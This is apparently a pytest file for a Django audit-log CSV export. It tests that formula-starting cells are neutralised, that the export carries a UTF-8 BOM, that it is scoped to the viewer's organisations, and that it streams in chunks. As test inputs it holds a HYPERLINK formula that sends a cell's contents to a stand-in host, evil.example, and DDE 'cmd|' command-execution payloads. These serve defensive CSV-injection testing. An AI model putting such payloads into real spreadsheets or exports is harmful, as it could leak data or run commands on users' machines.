"""The audit CSV export: UTF-8 with a BOM, and no cell a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.utils import timezone

from apikeys.services import apikey_issue
from auxot.admin import csv_cell
from auxot.models import AuditEvent
from auxot.services import audit_record
from tests.conftest import trigger

EXPORT = "/admin/auxot/auditevent/export.csv"
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _export(client, **params):
    response = client.get(EXPORT, params)
    assert response.status_code == 200
    raw = b"".join(response.streaming_content)
    return response, raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_a_formula_in_a_key_label_comes_out_neutralised(client, api, cast, intake_a):
    token = apikey_issue(org=cast.org_a, label=PAYLOAD, user=cast.member_a).token
    assert trigger(api, intake_a.pk, token).status_code == 202
    client.force_login(cast.auditor_a)
    _, _, rows = _export(client, event="work_item.accepted")
    header, [row] = rows[0], rows[1:]
    assert row[header.index("actor_label")] == "'" + PAYLOAD


def test_every_text_cell_is_neutralised_not_only_the_label(client, cast):
    audit_record(event="+evil", org=cast.org_a, actor_label="@sum(1)", actor_key_lookup="-2",
                 ip=None, extra={"k": 1})
    cast.org_a.name = "=org"
    cast.org_a.save()
    client.force_login(cast.admin_a)
    _, _, rows = _export(client)
    header, row = rows[0], next(r for r in rows[1:] if r[1] == "'+evil")
    cells = dict(zip(header, row, strict=True))
    assert (cells["actor_label"], cells["actor_key_lookup"], cells["org"]) == (
        "'@sum(1)", "'-2", "'=org")
    assert cells["extra"] == '{"k": 1}'  # harmless text stays as it was


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""),
])
def test_csv_cell_prefixes_exactly_the_formula_starts(value, expected):
    assert csv_cell(value) == expected


def test_export_is_utf8_with_a_bom_so_non_ascii_survives(client, cast):
    audit_record(event="key.note", org=cast.org_a, actor_label="Zoë Łukasz 東京 ✓")
    client.force_login(cast.admin_a)
    response, raw, rows = _export(client, event="key.note")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "Zoë Łukasz 東京 ✓".encode() in raw
    assert rows[1][rows[0].index("actor_label")] == "Zoë Łukasz 東京 ✓"


def test_export_holds_only_the_viewers_orgs(client, cast):
    audit_record(event="key.note", org=cast.org_b, actor_label="org b secret business")
    audit_record(event="key.note", org=cast.org_a, actor_label="org a business")
    client.force_login(cast.auditor_a)
    _, raw, _ = _export(client, event="key.note")
    assert b"org a business" in raw and b"org b secret business" not in raw
    assert AuditEvent.objects.filter(org=cast.org_b).exists()
    # A filter the page does not offer is refused, not applied (admin lookup_allowed).
    assert client.get(EXPORT, {"org__id__exact": cast.org_b.pk}).status_code == 400


def test_a_long_export_streams_in_chunks_of_rows_with_every_row_once(client, cast,
                                                                     monkeypatch):
    """Rows are written a chunk at a time (one chunk per row cost most of a large export's
    time); every row comes out once, newest first, whatever the chunk boundaries."""
    from auxot import admin as audit_admin

    monkeypatch.setattr(audit_admin, "EXPORT_CHUNK_ROWS", 2)
    for n in range(5):
        audit_record(event="key.note", org=cast.org_a, actor_label=f"row {n}")
    client.force_login(cast.admin_a)
    response = client.get(EXPORT, {"event": "key.note"})
    chunks = list(response.streaming_content)
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert len(chunks) == 3  # the BOM, the header and rows 1-2; rows 3-4; row 5
    label = rows[0].index("actor_label")
    assert [row[label] for row in rows[1:]] == [f"row {n}" for n in range(4, -1, -1)]


def test_no_cell_of_any_column_starts_a_formula(client, cast):
    """Every column of the export, each given a value starting with each formula prefix
    (`ip` holds addresses only, `created_at` a time: neither can start one)."""
    from auxot.admin import CSV_COLUMNS, FORMULA_PREFIXES

    settable = ["event", "actor_label", "actor_key_lookup", "object_type", "object_id"]
    for prefix in FORMULA_PREFIXES:
        value = prefix + "cmd|' /C calc'!A0"  # short: actor_key_lookup is 32 characters
        AuditEvent.objects.create(org=cast.org_a, created_at=timezone.now(), event=value,
                                  extra=-1, **{name: value for name in settable[1:]})
    cast.org_a.name = '=cmd|" /C calc"!A0'
    cast.org_a.save()
    client.force_login(cast.admin_a)
    _, _, rows = _export(client)
    assert rows[0] == CSV_COLUMNS
    assert set(CSV_COLUMNS) - {"created_at", "ip"} == {*settable, "org", "extra"}
    hostile = [row for row in rows[1:] if row[1].startswith("'")]
    assert len(hostile) == len(FORMULA_PREFIXES)
    for row in hostile:
        assert not [cell for cell in row if cell.startswith(FORMULA_PREFIXES)], row
        assert all(row[CSV_COLUMNS.index(name)].startswith("'") for name in settable)
        assert row[CSV_COLUMNS.index("extra")] == "'-1"
